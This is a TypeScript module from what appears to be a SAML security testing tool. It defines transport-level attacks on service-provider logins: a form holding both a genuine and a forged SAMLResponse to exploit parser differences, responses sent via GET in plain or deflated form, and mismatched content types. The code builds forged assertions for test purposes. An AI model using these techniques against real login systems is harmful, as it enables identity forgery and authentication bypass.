import { deflateRawSync } from 'node:zlib';
import { assertionXml } from '../../saml/response.ts';
import type { Attack, Posting } from '../attack.ts';
import type { Forge } from '../forge/forge.ts';
import { forgedPerson } from '../forge/people.ts';
import type { BegunLogin } from '../login.ts';
import { posting, relayState } from './deliver.ts';
import { attackOf } from './forged.ts';

const attack = attackOf({
  harm: {
    de: 'Regeln, die am Weg der Nachricht hängen, lassen sich umgehen.',
    en: 'Rules that depend on the way of the message can be evaded.',
  },
  group: 'transport',
  severity: 'hardening',
  references: ['SAML Bindings 2.0, 3.5'],
  requirements: ['A3.12.01', 'A3.12.06'],
  bad: 'login',
});

const base64 = (xml: string): string => Buffer.from(xml).toString('base64');

/** A right and a forged message in one form. */
function twoMessages(forge: Forge, login: BegunLogin, forgedFirst: boolean): Posting {
  const right = base64(forge.answer(login));
  const forged = base64(
    forge.wrap(login, [forge.encrypt(assertionXml(forge.assertionFor(login, forgedPerson)))]),
  );
  const messages = forgedFirst ? [forged, right] : [right, forged];
  return { fields: [...messages.map((message) => ['SAMLResponse', message] as const), ...relayState(login)] };
}

/** Right answers that come another way than agreed. */
export const transportAttacks: readonly Attack[] = [
  attack({
    id: 'two-messages',
    severity: 'serious',
    bad: 'identity',
    title: { de: 'Zwei Nachrichten in einem Formular', en: 'Two messages in one form' },
    harm: {
      de: 'Vorgeschaltete Prüfung und Anwendung nehmen verschiedene Nachrichten: geprüft wird die eine, verwendet die andere.',
      en: 'A filter in front and the application take different messages: one is verified, the other one used.',
    },
    references: ['CWE-235'],
    variants: (forge) => [
      {
        name: { de: 'gefälschte zuletzt', en: 'forged one last' },
        craft: (login) => twoMessages(forge, login, false),
      },
      {
        name: { de: 'gefälschte zuerst', en: 'forged one first' },
        craft: (login) => twoMessages(forge, login, true),
      },
    ],
  }),
  attack({
    id: 'get-instead-of-post',
    title: {
      de: 'Antwort in der Adresse statt im Formular',
      en: 'Response in the address instead of the form',
    },
    harm: {
      de: 'Die Antwort steht in Verlauf und Protokollen und lässt sich als Link verschicken.',
      en: 'The response is in history and logs and can be sent as a link.',
    },
    references: ['SAML Profiles 2.0, 4.1.2'],
    variants: (forge) => [
      {
        name: { de: 'Base64', en: 'Base64' },
        craft: (login) => ({ method: 'GET', fields: posting(forge.answer(login), login).fields }),
      },
      {
        name: { de: 'komprimiert', en: 'compressed' },
        craft: (login) => ({
          method: 'GET',
          fields: [
            ['SAMLResponse', deflateRawSync(forge.answer(login)).toString('base64')],
            ...relayState(login),
          ],
        }),
      },
    ],
  }),
  attack({
    id: 'wrong-content-type',
    title: { de: 'Falscher Inhaltstyp', en: 'Wrong content type' },
    harm: {
      de: 'Regeln von Browser und Firewall, die am Inhaltstyp hängen, lassen sich umgehen.',
      en: 'Rules of browser and firewall that depend on the content type can be evaded.',
    },
    variants: (forge) =>
      (['text', 'json', 'none'] as const).map((encoding) => ({
        name: { de: encodings[encoding], en: encodings[encoding] },
        craft: (login: BegunLogin) => ({ ...posting(forge.answer(login), login), encoding }),
      })),
  }),
];

const encodings = { text: 'text/plain', json: 'application/json', none: '–' } as const;
